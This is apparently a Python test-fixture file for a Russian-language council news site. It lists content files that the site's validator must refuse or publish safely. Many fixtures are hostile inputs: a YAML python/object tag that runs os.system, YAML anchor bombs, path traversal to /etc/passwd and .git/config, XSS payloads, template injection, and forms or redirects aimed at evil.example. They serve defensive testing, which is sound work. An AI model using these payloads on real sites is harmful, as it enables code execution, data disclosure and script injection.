"""Broken, hostile, and odd but fine content files, a line each: the name of the mistake, the file, and what must come of it."""

HEADER = '---\ntitle: "Проверка текста"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\n'


def within(text: str) -> str:
    """A news item with `text` between two harmless paragraphs."""
    return f"{HEADER}До вставки.\n\n{text}\n\nПосле вставки.\n"


def merge_bomb(depth: int) -> str:
    """Merge keys that double at each level."""
    levels = [f"a{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}], k{n}: 1}}" for n in range(1, depth)]
    return "\n".join(["---", 'title: "x"', "a0: &a0 {k: 1}", *levels, "---", "", "Текст"])


REFUSED_NEWS: list[tuple[str, str | bytes, int, str]] = [
    ("u2028_before_a_key", "---\n? \u2028  \n---\nb", 2, "invisible_character"),
    ("no_front_matter", "Просто текст без шапки.\n", 1, "no_front_matter"),
    ("unclosed_front_matter", '---\ntitle: "Забыли закрыть"\ndate: 2026-03-01\n\nТекст.\n', 1, "unclosed_front_matter"),
    ("empty", "", 1, "empty_file"),
    ("news_without_text", '---\ntitle: "Заголовок"\ndate: 2026-03-01\ncouncil: aydyn\n---\n', 6, "empty_body"),
    ("front_matter_is_list", "---\n- title\n- date\n---\n\nТекст\n", 2, "front_matter_not_keys"),
    ("four_dashes", '----\ntitle: "x"\n----\n\nТекст\n', 1, "no_front_matter"),
    ("toml_fence", '+++\ntitle = "x"\n+++\n\nТекст\n', 1, "no_front_matter"),
    ("git_conflict", '---\n<<<<<<< HEAD\ntitle: "Мой"\n=======\ntitle: "Чужой"\n>>>>>>> branch\ndate: 2026-03-01\n---\n\nТекст\n', 2, "git_conflict"),
    ("pelican_meta_header", "Title: Старый вид шапки\nDate: 2026-03-01\nSave_as: index.html\n\nТекст\n", 1, "no_front_matter"),
    ("dup_key", '---\ntitle: "x"\nstatus: new\ndate: 2026-03-01\nstatus: answered\n---\n\nТекст\n', 5, "duplicate_key"),
    ("dup_key_case", '---\ntitle: "x"\nTitle: "y"\ndate: 2026-03-01\n---\n\nТекст\n', 3, "unknown_key_close"),
    ("tab_indent", '---\ntitle: "x"\ntags:\n\t- a\n---\n\nТекст\n', 4, "tab_indent"),
    ("unquoted_colon", "---\ntitle: Вопрос: ответ\ndate: 2026-03-01\n---\n\nТекст\n", 2, "quotes_needed"),
    ("unquoted_at", "---\ntitle: @kense сообщает\n---\n\nТекст\n", 2, "quotes_needed"),
    ("unquoted_bracket", "---\ntitle: [Срочно] собрание\ndate: 2026-03-01\n---\n\nТекст\n", 2, "quotes_needed"),
    ("hash_cuts_title", "---\ntitle: Закон # 12 о совете\ndate: 2026-03-01\ncouncil: aydyn\n---\n\nТекст\n", 2, "hash_in_value"),
    ("wrong_indent", '---\ntitle: "x"\n date: 2026-03-01\n---\n\nТекст\n', 3, "stray_indent"),
    ("missing_space_after_colon", '---\ntitle:"x"\ndate:2026-03-01\n---\n\nТекст\n', 2, "space_after_colon"),
    ("cyrillic_key", '---\nзаголовок: "x"\ndate: 2026-03-01\n---\n\nТекст\n', 2, "unknown_key"),
    ("key_lookalike", '---\ntitle: "x"\ndate: 2026-03-01\nstаtus: answered\n---\n\nТекст\n', 4, "unknown_key"),
    ("key_typo", '---\ntitel: "x"\ndate: 2026-03-01\n---\n\nТекст\n', 2, "unknown_key_close"),
    ("u2028_injection", "---\ntitle: Новость\u2028status: answered\ndate: 2026-03-01\n---\n\nТекст\n", 2, "invisible_character"),
    ("nel_injection", "---\ntitle: Новость\x85status: answered\ndate: 2026-03-01\n---\n\nТекст\n", 2, "invisible_character"),
    ("second_document", '---\ntitle: "x"\n---\nstatus: answered\n---\n\nТекст\n', 4, "second_front_matter"),
    ("date_feb30", '---\ntitle: "Обычная новость"\ndate: 2026-02-30\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n', 3, "impossible_date"),
    ("date_feb29_2026", '---\ntitle: "Обычная новость"\ndate: 2026-02-29\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n', 3, "impossible_date"),
    ("date_month13", '---\ntitle: "Обычная новость"\ndate: 2026-13-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n', 3, "impossible_date"),
    ("date_two_digit_year", '---\ntitle: "Обычная новость"\ndate: 26-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n', 3, "bad_date"),
    ("date_dotted", '---\ntitle: "Обычная новость"\ndate: 01.03.2026\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n', 3, "bad_date"),
    ("date_is_text", '---\ntitle: "Обычная новость"\ndate: вчера\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n', 3, "bad_date"),
    ("region_norway", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nlang: no\n---\n\nТекст\n', 5, "quotes_needed"),
    ("bool_as_name", "---\ntitle: yes\ndate: 2026-03-01\n---\n\nТекст\n", 2, "quotes_needed"),
    ("title_list", "---\ntitle: [a, b]\ndate: 2026-03-01\n---\n\nТекст\n", 2, "not_text"),
    ("title_dict", "---\ntitle: {a: b}\ndate: 2026-03-01\n---\n\nТекст\n", 2, "not_text"),
    ("title_jinja", "---\ntitle: {{ SITENAME }}\ndate: 2026-03-01\n---\n\nТекст\n", 2, "quotes_needed"),
    (
        "billion_laughs",
        '---\ntitle: "x"\na0: &a0 ["lol"]\na1: &a1 [*a0,*a0,*a0,*a0,*a0,*a0,*a0,*a0,*a0]\na2: &a2 [*a1,*a1,*a1,*a1,*a1,*a1,*a1,*a1,*a1]\na3: &a3 [*a2,*a2,*a2,*a2,*a2,*a2,*a2,*a2,*a2]\na4: &a4 [*a3,*a3,*a3,*a3,*a3,*a3,*a3,*a3,*a3]\na5: &a5 [*a4,*a4,*a4,*a4,*a4,*a4,*a4,*a4,*a4]\na6: &a6 [*a5,*a5,*a5,*a5,*a5,*a5,*a5,*a5,*a5]\na7: &a7 [*a6,*a6,*a6,*a6,*a6,*a6,*a6,*a6,*a6]\na8: &a8 [*a7,*a7,*a7,*a7,*a7,*a7,*a7,*a7,*a7]\na9: &a9 [*a8,*a8,*a8,*a8,*a8,*a8,*a8,*a8,*a8]\n---\n\nТекст\n',
        3,
        "yaml_anchor",
    ),
    ("alias", '---\ntitle: &t "x"\nsummary: *t\n---\n\nТекст\n', 2, "yaml_anchor"),
    ("recursive_alias", '---\ntitle: "x"\ntags: &x [*x]\n---\n\nТекст\n', 3, "yaml_anchor"),
    ("python_tag", '---\ntitle: !!python/object/apply:os.system ["touch /tmp/pwned"]\n---\n\nТекст\n', 2, "yaml_tag"),
    ("custom_tag", "---\ntitle: !include /etc/passwd\n---\n\nТекст\n", 2, "yaml_tag"),
    ("binary_tag", "---\ntitle: !!binary aGVsbG8=\n---\n\nТекст\n", 2, "yaml_tag"),
    ("ctrl_escape_in_title", '---\ntitle: "a\\bb\\0c"\ndate: 2026-03-01\n---\n\nТекст\n', 2, "invisible_in_value"),
    ("surrogate_escape", '---\ntitle: "a\\ud800b"\ndate: 2026-03-01\n---\n\nТекст\n', 2, "invisible_in_value"),
    (
        "ctrl_in_body",
        '---\ntitle: "Обычная новость"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст\x0bс вертикальной табуляцией \x1b[31mи ESC\n',
        8,
        "invisible_character",
    ),
    (
        "noncharacter_in_body",
        '---\ntitle: "Обычная новость"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст \ufffe \uffff конец\n',
        8,
        "invisible_character",
    ),
    (
        "bidi_in_body",
        '---\ntitle: "Обычная новость"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nРешение: \u2066принято\u2069 \u202eотклонено\n',
        8,
        "invisible_character",
    ),
    (
        "zero_width_in_title",
        '---\ntitle: "Про\u200bто\u200dкол"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n',
        2,
        "invisible_character",
    ),
    (
        "cp1251",
        b'---\ntitle: "\xca\xee\xe4\xe8\xf0\xee\xe2\xea\xe0 Windows"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\n\xcf\xf0\xe8\xe2\xe5\xf2\n',
        2,
        "not_utf8",
    ),
    (
        "utf16le",
        b'\xff\xfe-\x00-\x00-\x00\n\x00t\x00i\x00t\x00l\x00e\x00:\x00 \x00"\x00.\x04=\x048\x04:\x04>\x044\x04 \x001\x006\x00"\x00\n\x00d\x00a\x00t\x00e\x00:\x00 \x002\x000\x002\x006\x00-\x000\x003\x00-\x000\x001\x00\n\x00c\x00o\x00u\x00n\x00c\x00i\x00l\x00:\x00 \x00a\x00y\x00d\x00y\x00n\x00\n\x00l\x00a\x00n\x00g\x00:\x00 \x00r\x00u\x00\n\x00-\x00-\x00-\x00\n\x00\n\x00"\x045\x04:\x04A\x04B\x04 \x00=\x04>\x042\x04>\x04A\x04B\x048\x04.\x00\n\x00',
        1,
        "not_utf8",
    ),
    (
        "utf16be",
        b'\xfe\xff\x00-\x00-\x00-\x00\n\x00t\x00i\x00t\x00l\x00e\x00:\x00 \x00"\x04.\x04=\x048\x04:\x04>\x044\x00 \x001\x006\x00"\x00\n\x00d\x00a\x00t\x00e\x00:\x00 \x002\x000\x002\x006\x00-\x000\x003\x00-\x000\x001\x00\n\x00c\x00o\x00u\x00n\x00c\x00i\x00l\x00:\x00 \x00a\x00y\x00d\x00y\x00n\x00\n\x00l\x00a\x00n\x00g\x00:\x00 \x00r\x00u\x00\n\x00-\x00-\x00-\x00\n\x00\n\x04"\x045\x04:\x04A\x04B\x00 \x04=\x04>\x042\x04>\x04A\x04B\x048\x00.\x00\n',
        1,
        "not_utf8",
    ),
    (
        "one_bad_byte",
        b'---\ntitle: "\xd0\x9e\xd0\xb4\xd0\xb8\xd0\xbd \xd0\xb1\xd0\xb0\xd0\xb9\xd1\x82"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\n\xd0\xa2\xd0\xb5\xd0\xba\xd1\x81\xd1\x82 \xd0\xbd\xd0\xbe\xd0\xb2\xd0\xbe\xd1\x81\xd1\x82\xd0\xb8.\n\n\xff\n',
        10,
        "damaged_byte",
    ),
    ("mojibake", '---\ntitle: "РќРѕРІРѕСЃС‚СЊ"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nРўРµРєСЃС‚ РЅРѕРІРѕСЃС‚Рё.\n', 2, "mojibake"),
    ("key_save_as_index", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nsave_as: index.html\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_save_as_cname", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nsave_as: CNAME\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_save_as_headers", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nsave_as: _headers\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_url_js", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nurl: javascript:xsscanary(11)\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_template", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\ntemplate: ../../../../etc/passwd\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_template_index", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\ntemplate: index\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_is_valid", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nis_valid: yes\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_get_content", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nget_content: yes\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_settings", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nsettings: yes\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_content", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\n_content: <script>xsscanary(12)</script>\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_status_unknown", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nstatus: answerd\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_status_skip", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nstatus: skip\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_author_html", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nauthor: "<b onmouseover=xsscanary(13)>A</b>"\n---\n\nТекст\n', 5, "unknown_key"),
    ("key_lang_path", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ../../../tmp/x\n---\n\nТекст\n', 5, "contradiction"),
    ("wrong_owner", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: bayram\n---\n\nТекст\n', 4, "contradiction"),
    ("council_unknown", '---\ntitle: "x"\ndate: 2026-03-01\ncouncil: no-such-council\n---\n\nТекст\n', 4, "contradiction"),
    (
        "pii_phone_in_news",
        '---\ntitle: "Обычная новость"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТел. заявителя +7 700 000 00 01.\n',
        8,
        "personal_phone",
    ),
    ("int_5000_digits", f'---\ntitle: "x"\ndate: 2026-03-01\nbudget: {"9" * 5000}\n---\n\nТекст\n', 4, "unknown_key"),
    ("merge_bomb", merge_bomb(25), 3, "yaml_anchor"),
    ("deep_nesting", f'---\ntitle: "x"\ntags: {"[" * 500}{"]" * 500}\n---\n\nТекст\n', 3, "too_deep"),
    ("deep_dashes", f'---\ntitle: "x"\ntags:\n{"- " * 1000}a\n---\n\nТекст\n', 4, "too_deep"),
    ("title_2000_chars", f'---\ntitle: "{"Ж" * 2000}"\ndate: 2026-03-01\n---\n\nТекст\n', 2, "too_long"),
    ("personal_iin", f"{HEADER}ИИН заявителя 990101 300 123.\n", 8, "personal_iin"),
]

SLOW_NEWS: list[tuple[str, str]] = [
    (name, f"{HEADER}{sign * (10_000 // len(sign))}\n")
    for name, sign in [
        ("brackets", "["),
        ("image brackets", "!["),
        ("footnotes", "[^1]"),
        ("cdata", "<![CDATA["),
        ("half links", "[a]("),
        ("half tags", "<a "),
        ("dashes", "- "),
        ("quotes", "> "),
        ("numbers", "1. "),
        ("autolinks", "<http://a"),
        ("references", "[a]: <"),
        ("backticks", "``a`"),
        ("stars", "*a*"),
        ("quotes of text", '"'),
        ("fences", "~~~a\n\n"),
    ]
]
"""What makes Python-Markdown hang or overflow."""

REFUSED_COUNCILS: list[tuple[str, str | bytes, int, str]] = [
    ("budget_nan", '---\nname: "x"\nbudget: .nan\nformed_with: "x"\nlevel: regional\nsources: []\nregion: altyn\n---\n\nТекст\n', 3, "unknown_key"),
    ("budget_inf", '---\nname: "x"\nbudget: .inf\nformed_with: "x"\nlevel: regional\nsources: []\nregion: altyn\n---\n\nТекст\n', 3, "unknown_key"),
    (
        "members_negative",
        '---\nname: "x"\nmembers_total: -5\nformed_with: "x"\nlevel: regional\nsources: []\nregion: altyn\n---\n\nТекст\n',
        3,
        "unknown_key_close",
    ),
    ("slug_homoglyph", '---\nname: "x"\nslug: dеmо-соunсil\nformed_with: "x"\nlevel: regional\nsources: []\nregion: altyn\n---\n\nТекст\n', 3, "contradiction"),
    ("slug_traversal", '---\nname: "x"\nslug: ../../evil\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n', 3, "contradiction"),
    (
        "slug_prefix_sibling",
        '---\nname: "x"\nslug: ../output_evil/x\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n',
        3,
        "contradiction",
    ),
    (
        "slug_backslash",
        '---\nname: "x"\nslug: "..\\\\..\\\\x"\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n',
        3,
        "contradiction",
    ),
    ("slug_nul", '---\nname: "x"\nslug: "a\\0b"\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n', 3, "invisible_in_value"),
    ("slug_reserved", '---\nname: "x"\nslug: con\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n', 3, "contradiction"),
    ("slug_trailing_dot", '---\nname: "x"\nslug: "almaty."\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n', 3, "contradiction"),
    ("slug_upper", '---\nname: "x"\nslug: Demo-Council\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n', 3, "contradiction"),
    ("slug_empty", '---\nname: "x"\nslug: ""\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n', 3, "empty_value"),
    (
        "slug_long",
        '---\nname: "x"\nslug: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n',
        3,
        "too_long",
    ),
    (
        "slug_format",
        '---\nname: "x"\nslug: "{date.__class__}"\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n',
        3,
        "contradiction",
    ),
    ("slug_space", '---\nname: "x"\nslug: "demo council"\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n', 3, "contradiction"),
    ("slug_takes_index", '---\nname: "x"\nslug: index\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n', 3, "contradiction"),
    ("slug_takes_feeds", '---\nname: "x"\nslug: feeds\nregion: altyn\nformed_with: "x"\nlevel: regional\nsources: []\n---\n\nТекст\n', 3, "contradiction"),
]

PUBLISHED_NEWS: list[tuple[str, str | bytes, str]] = [
    ("empty_links", within("[x]() [y]( ) ![z]()"), "После вставки."),
    ("setext_heading", within("Раздел\n======="), "Раздел</h2>"),
    ("fence_with_trailing_spaces", '---  \ntitle: "Пробелы после тире"\ndate: 2026-03-01\ncouncil: aydyn\n---\t\n\nТекст.\n', "Пробелы после тире"),
    ("date_quoted", '---\ntitle: "Дата в кавычках"\ndate: "2026-03-01"\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n', "Дата в кавычках"),
    ("title_number", "---\ntitle: 2026\ndate: 2026-03-01\ncouncil: aydyn\n---\n\nТекст\n", "2026"),
    ("nfd_text", '---\ntitle: "Комиссия и ещё ёлка"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст в разложенном виде: й ё ӣ\n', "ещё"),
    ("utf8_bom", '\ufeff---\ntitle: "С меткой BOM"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n', "С меткой BOM"),
    ("crlf", '---\r\ntitle: "Строки Windows"\r\ndate: 2026-03-01\r\ncouncil: aydyn\r\nlang: ru\r\n---\r\n\r\nТекст новости.\r\n', "Строки Windows"),
    ("cr_only", '---\rtitle: "Старый Mac"\rdate: 2026-03-01\rcouncil: aydyn\rlang: ru\r---\r\rТекст новости.\r', ""),
    ("no_final_newline", '---\ntitle: "Без последней строки"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.', "Текст новости."),
    ("html_script", within("<script>xsscanary(1)</script>"), "После вставки."),
    ("html_img_onerror", within("<img src=x onerror=xsscanary(2)>"), "После вставки."),
    ("html_style", within("<style>body{display:none}</style>"), "После вставки."),
    ("html_form", within('<form action="https://evil.example/"><input name="iin"></form>'), "После вставки."),
    ("html_base", within('<base href="https://evil.example/">'), "После вставки."),
    ("html_meta_refresh", within('<meta http-equiv="refresh" content="0;url=https://evil.example/">'), "После вставки."),
    ("html_unclosed_div", within("<div><table><tr><td>"), "После вставки."),
    ("html_close_layout", within("</article></main></body></html>"), "После вставки."),
    ("html_unclosed_comment", within("<!-- забыли закрыть"), "После вставки."),
    ("html_svg", within('<svg onload=xsscanary(3)><a xlink:href="javascript:xsscanary(4)"><text>x</text></a></svg>'), "После вставки."),
    ("html_id_clobber", within('<a id="main"></a><p id="content" class="site-header" style="position:fixed;inset:0">x</p>'), "После вставки."),
    ("md_js_link", within("[нажмите](javascript:xsscanary(5)) и [тут](JaVa\tscript:xsscanary(6))"), "После вставки."),
    ("md_data_link", within("[нажмите](data:text/html;base64,PHNjcmlwdD4=)"), "После вставки."),
    ("md_attr_list", within('*x*{: onclick="xsscanary(7)" style="position:fixed;inset:0" }\n\nabc\n{: .site-header #main }'), "После вставки."),
    ("md_fence_attr", within('``` {.x onclick="xsscanary(8)"}\nкод\n```'), "После вставки."),
    ("md_in_html", within('<div markdown="1" onclick="xsscanary(9)">*x*</div>'), "После вставки."),
    ("md_external_image", within("![фото](https://evil.example/pixel.png)"), "После вставки."),
    ("md_protocol_relative", within("[x](//evil.example/) ![y](//evil.example/y.png)"), "После вставки."),
    ("md_headings", within("# Первый уровень\n\n###### Шестой\n\n# main"), "После вставки."),
    (
        "md_attach_passwd",
        within(
            "[1]({attach}/../etc/passwd) [2]({attach}/../../etc/passwd) [3]({attach}/../../../etc/passwd) [4]({attach}/../../../../etc/passwd) [5]({attach}/../../../../../etc/passwd) [6]({attach}/../../../../../../etc/passwd) [7]({attach}/../../../../../../../etc/passwd) [8]({attach}/../../../../../../../../etc/passwd) [9]({attach}/../../../../../../../../../etc/passwd) [10]({attach}/../../../../../../../../../../etc/passwd) [11]({attach}/../../../../../../../../../../../etc/passwd) [12]({attach}/../../../../../../../../../../../../etc/passwd)"
        ),
        "После вставки.",
    ),
    (
        "md_attach_pipe",
        within("[отчёт](|attach|/../.git/config) [2](|attach|/../../.git/config) [3]({attach}/../pelicanconf.py) ![x]({static}/../../pelicanconf.py)"),
        "После вставки.",
    ),
    ("md_jinja", within('{{ 7*7 }} {% raw %} {% include "/etc/passwd" %} {{ config }}'), "{{ 7*7 }}"),
    ("md_include_plugins", within('{!../../etc/passwd!} {{< readfile "/etc/passwd" >}} !!!include(/etc/passwd)!!! .. include:: /etc/passwd'), "После вставки."),
    ("md_broken_internal_link", within("[протокол](/net-takoi-stranitsy/) [файл](protokol.pdf)"), "После вставки."),
    (
        "title_csv_formula",
        "---\ntitle: \"=HYPERLINK('https://evil.example','Отчёт')\"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n",
        "",
    ),
    ("title_csv_plus", '---\ntitle: "+7 процентов к бюджету"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n', "+7 процентов к бюджету"),
    ("title_lt_gt", '---\ntitle: "Тариф 2 < 3 и 5 > 4 & ещё"\ndate: 2026-03-01\ncouncil: aydyn\nlang: ru\n---\n\nТекст новости.\n', "5 &gt; 4"),
]

PUBLISHED_COUNCILS: list[tuple[str, str | bytes, str]] = [
    (
        "phone_leading_zero",
        '---\nname: "Совет"\nbin: 007740000123\nphone: 87172000000\nformed_with: "x"\nlevel: regional\nsources: []\nregion: altyn\n---\n\nТекст\n',
        "007740000123",
    ),
    (
        "official_contact",
        '---\nname: "Совет"\nphone: "+7 (7172) 00-00-00"\nemail: kense@demo.example\nformed_with: "x"\nlevel: regional\nsources: []\nregion: altyn\n---\n\nТекст\n',
        "00-00-00",
    ),
]
